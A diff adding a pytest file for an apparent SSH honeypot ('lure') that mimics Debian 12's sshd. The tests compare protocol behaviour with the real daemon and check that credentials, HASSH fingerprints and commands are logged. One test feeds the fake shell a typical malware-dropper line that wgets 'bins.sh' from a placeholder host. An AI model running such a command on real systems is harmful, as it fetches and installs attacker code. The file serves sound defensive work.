@@ -1,0 +1,529 @@
+"""The linux persona's SSH port against Debian 12's own sshd, side by side on
+loopback: the identification string and KEXINIT lists, ssh-audit's report,
+answers to malformed input, and the authentication dialogue must be the
+same; the OpenSSH client and paramiko log in with wrong and "right"
+passwords over every algorithm sshd offers that lure implements, and the
+events carry user, password, method, client version and HASSH."""
+import hashlib
+import json
+import os
+import re
+import shutil
+import socket
+import struct
+import subprocess
+import threading
+import time
+
+import pytest
+
+from conftest import get, persona
+
+persona("linux")
+
+paramiko = pytest.importorskip("paramiko")
+
+SSHD = "/usr/sbin/sshd"
+RIGHT = ("root", "123456")  # emu/personas/linux/ssh.conf: ssh.accept
+CLIENT_VERSION = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n"
+
+
+def free_port():
+    s = socket.socket()
+    s.bind(("127.0.0.1", 0))
+    p = s.getsockname()[1]
+    s.close()
+    return p
+
+
+def wait_port(port, timeout=10.0):
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=1).close()
+            return
+        except OSError:
+            time.sleep(0.05)
+    raise AssertionError(f"nothing listens on 127.0.0.1:{port}")
+
+
+@pytest.fixture(scope="module")
+def sshd(tmp_path_factory):
+    """Debian's sshd with its stock authentication settings on a free
+    loopback port (fresh host keys): yields the port."""
+    if os.geteuid() != 0 or not os.access(SSHD, os.X_OK):
+        pytest.skip("needs root and openssh-server")
+    d = tmp_path_factory.mktemp("sshd")
+    for t in ("rsa", "ecdsa", "ed25519"):
+        subprocess.run(["ssh-keygen", "-q", "-t", t, "-N", "", "-f",
+                        str(d / f"ssh_host_{t}_key")], check=True)
+    port = free_port()
+    cfg = d / "sshd_config"
+    # Debian 12's /etc/ssh/sshd_config minus what needs a terminal
+    cfg.write_text(f"""Port {port}
+ListenAddress 127.0.0.1
+HostKey {d}/ssh_host_rsa_key
+HostKey {d}/ssh_host_ecdsa_key
+HostKey {d}/ssh_host_ed25519_key
+PidFile {d}/sshd.pid
+KbdInteractiveAuthentication no
+UsePAM yes
+X11Forwarding yes
+PrintMotd no
+AcceptEnv LANG LC_*
+""")
+    os.makedirs("/run/sshd", exist_ok=True)
+    p = subprocess.Popen([SSHD, "-D", "-f", str(cfg), "-E", str(d / "log")])
+    try:
+        wait_port(port)
+        yield port
+    finally:
+        p.terminate()
+        p.wait(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def state(tmp_path_factory):
+    """One state file for the module: host keys are generated once."""
+    return tmp_path_factory.mktemp("state") / "lure.state"
+
+
+@pytest.fixture
+def sensor(lure, state):
+    s = lure({"state_file": str(state), "limits": {"idle_timeout": 60}},
+             wait=False)
+    # the first start generates an RSA-3072 host key: allow for it
+    s.start_event = s.wait_event("status", timeout=60, event__reason="start")
+    return s
+
+
+# --- raw protocol helpers ---------------------------------------------------
+
+def recv_exact(s, n, timeout=5.0):
+    buf = b""
+    end = time.monotonic() + timeout
+    while len(buf) < n:
+        s.settimeout(max(0.01, end - time.monotonic()))
+        d = s.recv(n - len(buf))
+        if not d:
+            raise EOFError(f"EOF after {len(buf)} of {n} bytes")
+        buf += d
+    return buf
+
+
+def read_line(s):
+    buf = b""
+    while not buf.endswith(b"\n"):
+        buf += recv_exact(s, 1)
+    return buf
+
+
+def read_plain_packet(s):
+    """(packet_length, padding, payload) of an unencrypted packet."""
+    head = recv_exact(s, 5)
+    length, pad = struct.unpack(">IB", head)
+    rest = recv_exact(s, length - 1)
+    return length, rest[len(rest) - pad:], rest[:len(rest) - pad]
+
+
+def parse_kexinit(payload):
+    assert payload[0] == 20
+    o, lists = 17, []
+    for _ in range(10):
+        (n,) = struct.unpack(">I", payload[o:o + 4])
+        lists.append(payload[o + 4:o + 4 + n].decode())
+        o += 4 + n
+    return lists, payload[o:]
+
+
+def kexinit_of(port):
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
+        banner = read_line(s)
+        s.sendall(CLIENT_VERSION)
+        length, padding, payload = read_plain_packet(s)
+    lists, tail = parse_kexinit(payload)
+    return banner, length, padding, lists, tail
+
+
+def answer(port, chunks, wait=1.5):
+    """What the server sends after its banner to chunks (sent 0.2 s apart),
+    with KEXINIT cookies zeroed, and how it ended: eof, reset or open."""
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    read_line(s)
+    for c in chunks:
+        try:
+            s.sendall(c)
+        except OSError:
+            break
+        time.sleep(0.2)
+    out, end = b"", "open"
+    deadline = time.monotonic() + wait
+    while time.monotonic() < deadline:
+        s.settimeout(max(0.01, deadline - time.monotonic()))
+        try:
+            d = s.recv(65536)
+        except socket.timeout:
+            break
+        except ConnectionResetError:
+            end = "reset"
+            break
+        if not d:
+            end = "eof"
+            break
+        out += d
+    s.close()
+    if out[5:6] == b"\x14":  # a KEXINIT: its cookie is random
+        out = out[:6] + b"\0" * 16 + out[22:]
+    return out, end
+
+
+# --- identity ---------------------------------------------------------------
+
+def test_banner_and_kexinit_equal_sshd(sshd, sensor):
+    real = kexinit_of(sshd)
+    ours = kexinit_of(sensor.port(22))
+    assert ours[0] == real[0], "identification string"
+    assert ours[3] == real[3], "KEXINIT name-lists"
+    assert ours[4] == real[4], "first_kex_packet_follows and reserved"
+    assert (ours[1], ours[2]) == (real[1], real[2]), "length and padding"
+    assert set(ours[2]) == {0}, "sshd pads with zeros before keys"
+
+
+def test_ssh_audit_same_report(sshd, sensor):
+    exe = shutil.which("ssh-audit")
+    if not exe:
+        pytest.skip("ssh-audit (PyPI) not installed")
+
+    def report(port):
+        r = subprocess.run([exe, "-j", "-p", str(port), "127.0.0.1"],
+                           capture_output=True, timeout=120)
+        j = json.loads(r.stdout)
+        assert j.get("kex"), r.stdout[:500]
+        keys = sorted(f["hostkey"] for f in j.pop("fingerprints"))
+        j.pop("target")
+        # the DHEat note quotes the measured connection rate
+        text = re.sub(r"\d+(\.\d+)? (connections|seconds|conns/sec)",
+                      r"N \2", json.dumps(j, sort_keys=True))
+        return r.returncode, keys, json.loads(text)
+
+    assert report(sensor.port(22)) == report(sshd)
+
+
+BAD = {
+    "no_version": [],
+    "major_1": [b"SSH-1.5-1.2.27\r\n"],
+    "ssh_1_99": [b"SSH-1.99-x\r\n"],
+    "lf_only": [b"SSH-2.0-x\n"],
+    "http": [b"GET / HTTP/1.0\r\n\r\n"],
+    "nul": [b"SSH-2.0-f\x00oo\r\n"],
+    "cr_inside": [b"SSH-2.0-x\rfoo\r\n"],
+    "no_software": [b"SSH-2.0-\r\n"],
+    "pre_lines": [b"hello\r\nSSH-2.0-x\r\n"],
+    "long_line": [b"SSH-2.0-" + b"A" * 200 + b"\r\n"],
+    "newkeys_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x15" + b"A" * 10],
+    "ignore_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x02" + b"A" * 10],
+    "oversized": [b"SSH-2.0-x\r\n", b"\x7f\xff\xff\xff" + b"A" * 60],
+    "too_short": [b"SSH-2.0-x\r\n", b"\0\0\0\x01" + b"A" * 60],
+    "misaligned": [b"SSH-2.0-x\r\n", b"\0\0\0\x0d\x0a\x02" + b"A" * 11],
+    "bad_padding": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x02\x02" + b"A" * 10],
+    "garbage": [b"SSH-2.0-x\r\n", bytes(range(256)) * 4],
+}
+
+
+@pytest.mark.parametrize("case", sorted(BAD))
+def test_malformed_input_like_sshd(sshd, sensor, case):
+    real = answer(sshd, BAD[case])
+    ours = answer(sensor.port(22), BAD[case])
+    # sshd resets when the client's unread bytes are still queued; lure's
+    # core may close with a FIN instead: bytes and "closed" must agree
+    assert ours[0] == real[0]
+    assert (ours[1] == "open") == (real[1] == "open"), (ours[1], real[1])
+    assert sensor.alive()
+
+
+# --- the OpenSSH client -----------------------------------------------------
+
+def ssh_cmd(port, user, password, *opts, cmd="echo hi"):
+    """The OpenSSH client with a password; opts first (ssh keeps the first
+    value of an option)."""
+    return subprocess.run(
+        ["sshpass", "-p", password, "ssh", *opts,
+         "-o", "StrictHostKeyChecking=no",
+         "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
+         "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
+         "-p", str(port), f"{user}@127.0.0.1", cmd],
+        capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
+
+
+def hassh_of_client(argv):
+    """HASSH of what a client sends, from its KEXINIT on a bare socket (an
+    independent computation: kex;enc c2s;mac c2s;comp c2s, MD5)."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    port = srv.getsockname()[1]
+    p = subprocess.Popen(argv(port), stdin=subprocess.DEVNULL,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        srv.settimeout(10)
+        c, _ = srv.accept()
+        c.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
+        version = read_line(c).rstrip(b"\r\n").decode()
+        _, _, payload = read_plain_packet(c)
+        c.close()
+    finally:
+        srv.close()
+        p.kill()
+        p.wait()
+    lists, _ = parse_kexinit(payload)
+    s = ";".join([lists[0], lists[2], lists[4], lists[6]])
+    return version, hashlib.md5(s.encode()).hexdigest(), s
+
+
+def test_openssh_wrong_and_right_password(sshd, sensor):
+    port = sensor.port(22)
+    version, hassh, algs = hassh_of_client(
+        lambda p: ["ssh", "-o", "StrictHostKeyChecking=no", "-o",
+                   "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
+                   "-p", str(p), "x@127.0.0.1", "true"])
+    bad_real = ssh_cmd(sshd, "root", "wrong-pw")
+    bad = ssh_cmd(port, "root", "wrong-pw")
+    assert bad.returncode == bad_real.returncode == 255
+    assert b"Permission denied" in bad.stderr
+    assert bad.stderr == bad_real.stderr
+    ok = ssh_cmd(port, *RIGHT, cmd="uname -a; id")
+    assert ok.returncode == 0, ok.stderr
+    fail = sensor.wait_event("login", user__name="root",
+                             lure__auth__password="wrong-pw")
+    assert get(fail, "event.outcome") == "failure"
+    assert get(fail, "lure.auth.method") == "password"
+    assert get(fail, "lure.ssh.client_version") == version
+    assert get(fail, "lure.ssh.hassh") == hassh
+    good = sensor.wait_event("login", user__name="root",
+                             lure__auth__password=RIGHT[1])
+    assert get(good, "event.outcome") == "success"
+    cmd = sensor.wait_event("command", lure__command="uname -a; id")
+    assert get(cmd, "user.name") == "root"
+    req = sensor.wait_event("request", lure__ssh__hassh=hassh)
+    assert get(req, "lure.ssh.hassh_algorithms") == algs
+
+
+ALGS = ([("KexAlgorithms", k) for k in (
+    "sntrup761x25519-sha512@openssh.com", "curve25519-sha256",
+    "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256",
+    "ecdh-sha2-nistp384", "ecdh-sha2-nistp521",
+    "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512",
+    "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256")]
+    + [("HostKeyAlgorithms", h) for h in (
+        "rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519")]
+    + [("Ciphers", c) for c in (
+        "chacha20-poly1305@openssh.com", "aes128-gcm@openssh.com",
+        "aes256-gcm@openssh.com")]
+    + [("MACs", m) for m in (
+        "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com",
+        "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512",
+        "hmac-sha1")])
+
+
+@pytest.mark.parametrize("opt,alg", ALGS, ids=[a for _, a in ALGS])
+def test_openssh_every_algorithm(sensor, opt, alg):
+    extra = ["-o", f"{opt}={alg}"]
+    if opt == "MACs":
+        for c in ("aes128-ctr", "aes192-ctr", "aes256-ctr"):
+            r = ssh_cmd(sensor.port(22), *RIGHT, *extra, "-c", c,
+                        cmd=f"true {c}")
+            assert r.returncode == 0, (c, r.stderr)
+        return
+    r = ssh_cmd(sensor.port(22), *RIGHT, *extra, "-v", cmd=f"true {alg}")
+    assert r.returncode == 0, r.stderr[-2000:]
+    assert alg.encode() in r.stderr  # the client says what it settled on
+    sensor.wait_event("command", lure__command=f"true {alg}")
+
+
+# --- paramiko ---------------------------------------------------------------
+
+def test_paramiko_password_and_publickey(sensor, tmp_path):
+    port = sensor.port(22)
+    key = paramiko.Ed25519Key.from_private_key_file(
+        str(make_key(tmp_path)))
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    with pytest.raises(paramiko.AuthenticationException):
+        c.connect("127.0.0.1", port, username="admin", password="nope",
+                  pkey=key, look_for_keys=False, allow_agent=False,
+                  timeout=10)
+    c.close()
+    pk = sensor.wait_event("login", lure__auth__method="publickey")
+    assert get(pk, "user.name") == "admin"
+    assert get(pk, "lure.ssh.key_type") == "ssh-ed25519"
+    fp = subprocess.run(["ssh-keygen", "-l", "-f", str(tmp_path / "k")],
+                        capture_output=True, check=True).stdout.split()[1]
+    assert get(pk, "lure.ssh.key_fingerprint") == fp.decode()
+    assert get(pk, "lure.ssh.client_version").startswith("SSH-2.0-paramiko_")
+    pw = sensor.wait_event("login", lure__auth__password="nope")
+    assert get(pw, "user.name") == "admin"
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", port, username="admin", password="admin",
+              look_for_keys=False, allow_agent=False, timeout=10)
+    _, out, _ = c.exec_command("cat /proc/cpuinfo")
+    assert out.channel.recv_exit_status() == 0
+    c.close()
+    sensor.wait_event("command", lure__command="cat /proc/cpuinfo")
+
+
+def make_key(tmp_path):
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f",
+                    str(tmp_path / "k")], check=True)
+    return tmp_path / "k"
+
+
+def test_host_key_is_per_instance_and_kept(sensor, lure, state, tmp_path):
+    """Host keys come from the state file: the same after a restart, new
+    for another sensor."""
+    def keys(port):
+        r = subprocess.run(["ssh-keyscan", "-p", str(port), "127.0.0.1"],
+                           capture_output=True, timeout=30)
+        return sorted(l.split(None, 1)[1] for l in r.stdout.decode().splitlines())
+
+    def start(path):
+        s = lure({"state_file": str(path)}, wait=False)
+        s.start_event = s.wait_event("status", timeout=60,
+                                     event__reason="start")
+        return s
+    first = keys(sensor.port(22))
+    assert [k.split()[0] for k in first] == [
+        "ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
+    assert "ssh.rsa" in state.read_text()
+    sensor.stop()
+    assert keys(start(state).port(22)) == first
+    assert not set(keys(start(tmp_path / "other.state").port(22))) & set(first)
+
+
+def failures(port, out):
+    """Six wrong passwords on one connection: per attempt the seconds it
+    took and how it ended."""
+    t = paramiko.Transport(("127.0.0.1", port))
+    t.start_client(timeout=10)
+    try:
+        t.auth_none("root")
+    except paramiko.BadAuthenticationType as e:
+        out.append(("none", sorted(e.allowed_types)))
+    for i in range(6):
+        t0 = time.monotonic()
+        try:
+            t.auth_password("root", f"wrong{i}")
+            out.append(("ok", 0))
+        except paramiko.AuthenticationException as e:
+            out.append((str(e), round(time.monotonic() - t0, 1)))
+    t.close()
+
+
+def test_failure_delay_and_max_tries_like_sshd(sshd, sensor):
+    real, ours = [], []
+    th = [threading.Thread(target=failures, args=(sshd, real)),
+          threading.Thread(target=failures, args=(sensor.port(22), ours))]
+    for x in th:
+        x.start()
+    for x in th:
+        x.join(timeout=90)
+    assert [o[0] for o in ours] == [r[0] for r in real]
+    assert ours[-1][0].endswith("transport shut down or saw EOF")
+    # PAM's failure delay (pam_unix: 2 s, randomised by libpam; 2.6 s on
+    # an idle machine): each of ours within what sshd took, give or take
+    lo = min(b for _, b in real[1:]) - 0.5
+    hi = max(b for _, b in real[1:]) + 0.5
+    for _, a in ours[1:]:
+        assert lo <= a <= hi, (ours, real)
+    assert len(sensor.find("login", lure__auth__method="password")) >= 6
+
+
+def test_garbage_after_keys_closes_quietly(sensor):
+    """After NEWKEYS, bytes that fail the MAC close the connection without
+    a word (sshd: "Corrupted MAC on input"); lure stays up."""
+    port = sensor.port(22)
+    t = paramiko.Transport(("127.0.0.1", port))
+    t.start_client(timeout=10)
+    assert t.is_active()
+    t.sock.sendall(os.urandom(64))
+    end = time.monotonic() + 5
+    while t.is_active() and time.monotonic() < end:
+        time.sleep(0.05)
+    assert not t.is_active(), "lure kept a connection with a bad MAC open"
+    t.close()
+    for _ in range(3):
+        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
+            assert read_line(s).startswith(b"SSH-2.0-OpenSSH_9.2p1")
+    assert sensor.alive()
+
+
+def user_change(port):
+    """Two user names on one connection: sshd refuses the second."""
+    t = paramiko.Transport(("127.0.0.1", port))
+    t.start_client(timeout=10)
+    out = []
+    for user in ("root", "admin"):
+        try:
+            t.auth_password(user, "not-it")
+        except paramiko.AuthenticationException as e:
+            out.append(str(e))
+    t.close()
+    return out
+
+
+def test_user_change_refused_like_sshd(sshd, sensor):
+    real, ours = [], []
+    th = [threading.Thread(target=lambda: real.extend(user_change(sshd))),
+          threading.Thread(target=lambda: ours.extend(
+              user_change(sensor.port(22))))]
+    for x in th:
+        x.start()
+    for x in th:
+        x.join(timeout=60)
+    assert ours == real
+    assert ours[-1].endswith("transport shut down or saw EOF")
+    # the password of the refused request is still captured
+    sensor.wait_event("login", user__name="admin",
+                      lure__auth__password="not-it")
+
+
+def test_shell_lines_are_commands(sensor):
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
+              password=RIGHT[1], look_for_keys=False, allow_agent=False,
+              timeout=10)
+    ch = c.invoke_shell()
+    ch.settimeout(5)
+    buf = b""
+    while not buf.endswith(b"# "):
+        buf += ch.recv(1024)
+    ch.sendall(b"cd /tmp; wget http://192.0.2.5/bins.sh\r")
+    sensor.wait_event("command",
+                      lure__command="cd /tmp; wget http://192.0.2.5/bins.sh")
+    ch.sendall(b"exit\r")
+    assert ch.recv_exit_status() == 0
+    c.close()
+
+
+def test_update_host_keys_learns_all_three(sensor, tmp_path):
+    """After a login sshd announces every host key (hostkeys-00) and signs
+    a proof for the ones the client asks about: OpenSSH's client checks the
+    signatures and adds the RSA and ECDSA keys to known_hosts."""
+    port = sensor.port(22)
+    kh = tmp_path / "known_hosts"
+    scan = subprocess.run(["ssh-keyscan", "-t", "ed25519", "-p", str(port),
+                           "127.0.0.1"], capture_output=True, timeout=30)
+    kh.write_bytes(scan.stdout)
+    r = ssh_cmd(port, *RIGHT, "-o", "UpdateHostKeys=yes", "-o",
+                "StrictHostKeyChecking=yes", "-o", f"UserKnownHostsFile={kh}",
+                "-v")
+    assert r.returncode == 0, r.stderr[-2000:]
+    assert b"hostkeys-00@openssh.com" in r.stderr
+    types = sorted(l.split()[1] for l in kh.read_text().splitlines())
+    assert types == ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
+    for alg in ("rsa-sha2-256", "ecdsa-sha2-nistp256"):
+        r = ssh_cmd(port, *RIGHT, "-o", "StrictHostKeyChecking=yes",
+                    "-o", f"UserKnownHostsFile={kh}", "-o",
+                    f"HostKeyAlgorithms={alg}")
+        assert r.returncode == 0, r.stderr
